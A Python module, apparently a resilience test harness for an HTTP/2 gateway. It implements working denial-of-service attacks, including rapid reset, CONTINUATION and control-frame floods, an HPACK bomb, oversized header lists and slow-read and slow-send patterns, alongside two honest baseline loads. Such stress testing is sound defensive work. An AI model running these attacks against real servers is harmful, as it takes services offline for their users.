"""The attacks. Each goes on until a given time, on one connection after the other or on many at once, and says how many
requests, frames or the like it has made."""
import time

from wire import (CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, PRIORITY, RST_STREAM, SETTINGS, Connection, Ended,
                  block, field, frame, request, window_update)

CANCEL = (8).to_bytes(4, "big")
# As many as the gateway allows at a time.
STREAMS = 100


def requests(port, end, rate=None):
    """Honest requests, 20 at a time and as fast as they are answered, or at most so many per second."""
    began, done = time.monotonic(), 0
    connection = Connection(port)
    running = 0
    while (now := time.monotonic()) < end:
        allowed = 20 - running if rate is None else min(20 - running, int((now - began) * rate) - done - running)
        if allowed > 0:
            connection.send(b"".join(request(connection.next(), b"/a") for _ in range(allowed)))
            running += allowed
        frames = connection.frames(0.02 if rate is None or running else 0.002)
        answered = sum(kind == DATA and flags & END_STREAM for kind, flags, _ in frames)
        done, running = done + answered, running - answered
    return done


def repeatedly(begin, step, window=None):
    """An attack by one connection after the other: how each begins, and what is sent then again and again, as (bytes, count)."""
    def attack(port, end):
        done = 0
        while time.monotonic() < end:
            connection = None
            try:
                connection = Connection(port, window)
                begin(connection)
                while time.monotonic() < end:
                    data, count = step(connection)
                    connection.send(data)
                    done += count
                    connection.frames()
            except (Ended, OSError):
                pass
            finally:
                if connection:
                    connection.close()
        return done
    return attack


def nothing(_):
    """Attacks that have no beginning."""


def flood(make, count):
    """So many frames, again and again."""
    data = make * count
    return repeatedly(lambda connection: connection.send(request(connection.next(), b"/never", b"POST")), lambda _: (data, count))


def by_request(follow, path=b"/a", method=b"GET"):
    """Requests, each with a frame behind it."""
    def step(connection):
        streams = [connection.next() for _ in range(50)]
        return b"".join(request(stream, path, method) + follow(stream) for stream in streams), len(streams)
    return repeatedly(nothing, step)


def handshakes(port, end):
    """No attack: connections with one request each, which is what an attack makes that is told off and comes back."""
    done = 0
    while time.monotonic() < end:
        connection = Connection(port)
        connection.send(request(1, b"/a"))
        while not any(kind == DATA for kind, _, _ in connection.frames(1)):
            pass
        connection.close()
        done += 1
    return done


def continuation():
    data = frame(CONTINUATION, 0, 1, field(b"x", b"y")) * 20
    return repeatedly(lambda connection: connection.send(frame(HEADERS, 0, 1, block(b"/a"))), lambda _: (data, 20))


def one_byte_windows():
    """Large responses, whose windows are opened byte by byte."""
    def begin(connection):
        connection.send(b"".join(request(connection.next(), b"/big") for _ in range(STREAMS)))
        heads = 0
        while heads < STREAMS:
            heads += sum(kind == HEADERS for kind, _, _ in connection.frames(1))

    data = b"".join(window_update(2 * index + 1, 1) for index in range(STREAMS))
    return repeatedly(begin, lambda _: (data, STREAMS), window=0)


def unread(port, end):
    """Large responses on one connection after the other, none of which is read, each for half a second."""
    done = 0
    while time.monotonic() < end:
        connection = Connection(port, 0x7fff_ffff)
        try:
            connection.send(b"".join(request(connection.next(), b"/big") for _ in range(STREAMS)))
            time.sleep(0.5)
            done += STREAMS
        except Ended:
            pass
        connection.close()
    return done


def read_slowly(port, end):
    """Large responses, of which a little is read at a time."""
    connection, done = Connection(port, 0x7fff_ffff), 0
    connection.send(b"".join(request(connection.next(), b"/big") for _ in range(STREAMS)))
    try:
        while time.monotonic() < end:
            done += len(connection.socket.recv(16_384))
            time.sleep(0.001)
    except OSError:
        pass
    return done


def hpack_bomb():
    """A large field that is remembered, and then thousands of references to it, each of a byte (RFC 7541 §6.1)."""
    entry = field(b"x", b"v" * 3900, b"\x40")
    bomb = block(b"/a") + b"\xbe" * 16_000

    def step(connection):
        return frame(HEADERS, END_HEADERS | END_STREAM, connection.next(), bomb), 1
    return repeatedly(lambda connection: connection.send(
        frame(HEADERS, END_HEADERS | END_STREAM, connection.next(), block(b"/a") + entry)), step)


def header_list(name):
    """As many fields as fit, which are more than may be."""
    fields = b"".join(field(name(index), b"") for index in range(8000))

    def step(connection):
        stream, pieces = connection.next(), [fields[at:at + 16_000] for at in range(0, len(fields), 16_000)]
        data = frame(HEADERS, END_STREAM, stream, block(b"/a"))
        data += b"".join(frame(CONTINUATION, 0, stream, piece) for piece in pieces[:4])
        return data + frame(CONTINUATION, END_HEADERS, stream, b""), 1
    return repeatedly(nothing, step)


def many(connections, begin, step, pause):
    """An attack by many connections at once, each of which sends a little now and then."""
    def attack(port, end):
        open_ones, done = [], 0
        while time.monotonic() < end:
            while len(open_ones) < connections and time.monotonic() < end:
                connection = Connection(port)
                done += begin(connection)
                open_ones.append(connection)
            for connection in list(open_ones):
                try:
                    connection.frames()
                    done += step(connection)
                except Ended:
                    connection.close()
                    open_ones.remove(connection)
            time.sleep(pause)
        return done
    return attack


def slow_heads():
    """Heads that come byte by byte."""
    head = block(b"/a")

    def begin(connection):
        connection.send(frame(HEADERS, 0, 1, head))
        return 1

    def step(connection):
        connection.send(frame(CONTINUATION, 0, 1, field(b"x", b"y")))
        return 1
    return many(100, begin, step, 0.5)


def slow_bodies():
    """Bodies that come byte by byte, on as many streams as may be."""
    def begin(connection):
        connection.send(b"".join(request(connection.next(), b"/a", b"POST") for _ in range(STREAMS)))
        return STREAMS

    def step(connection):
        connection.send(b"".join(frame(DATA, 0, 2 * index + 1, b"x") for index in range(STREAMS)))
        return STREAMS
    return many(10, begin, step, 0.5)


def idle_streams():
    """Requests that nobody answers, on as many streams as may be."""
    def begin(connection):
        connection.send(b"".join(request(connection.next(), b"/never") for _ in range(STREAMS)))
        return STREAMS
    return many(10, begin, lambda _: 0, 0.2)


def bursts():
    """No attack: as many honest requests at once as may be, now and then, which is how some attacks begin."""
    def burst(connection):
        connection.send(b"".join(request(connection.next(), b"/a") for _ in range(STREAMS)))
        return STREAMS
    return many(10, burst, burst, 0.5)


ATTACKS = {
    "handshakes": handshakes,
    "bursts": bursts(),
    "rapid-reset": by_request(lambda stream: frame(RST_STREAM, 0, stream, CANCEL)),
    "rapid-reset-uploads": by_request(lambda stream: frame(RST_STREAM, 0, stream, CANCEL), b"/never", b"POST"),
    "made-you-reset": by_request(lambda stream: window_update(stream, 0x7fff_ffff)),
    "continuation": continuation(),
    "settings": flood(frame(SETTINGS, 0, 0), 1000),
    "ping": flood(frame(PING, 0, 0, bytes(8)), 1000),
    "priority": flood(frame(PRIORITY, 0, 1, bytes(5)), 1000),
    "window-update": flood(window_update(1, 1), 1000),
    "empty-data": flood(frame(DATA, 0, 1), 1000),
    "small-data": flood(frame(DATA, 0, 1, b"x"), 1000),
    "one-byte-windows": one_byte_windows(),
    "unread": unread,
    "read-slowly": read_slowly,
    "hpack-bomb": hpack_bomb(),
    "header-list": header_list(lambda index: b"x%d" % index),
    "header-list-one-name": header_list(lambda _: b"x"),
    "slow-heads": slow_heads(),
    "slow-bodies": slow_bodies(),
    "idle-streams": idle_streams(),
}
